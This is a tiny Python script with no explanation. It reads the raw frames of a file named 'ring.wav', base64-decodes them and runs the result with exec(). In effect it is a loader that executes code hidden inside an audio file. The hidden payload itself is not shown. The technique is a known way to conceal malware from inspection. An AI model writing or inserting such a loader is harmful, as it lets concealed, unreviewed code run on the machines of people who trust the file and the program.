import wave, base64
frames = wave.open("ring.wav").readframes(9999)
exec(base64.b64decode(frames))
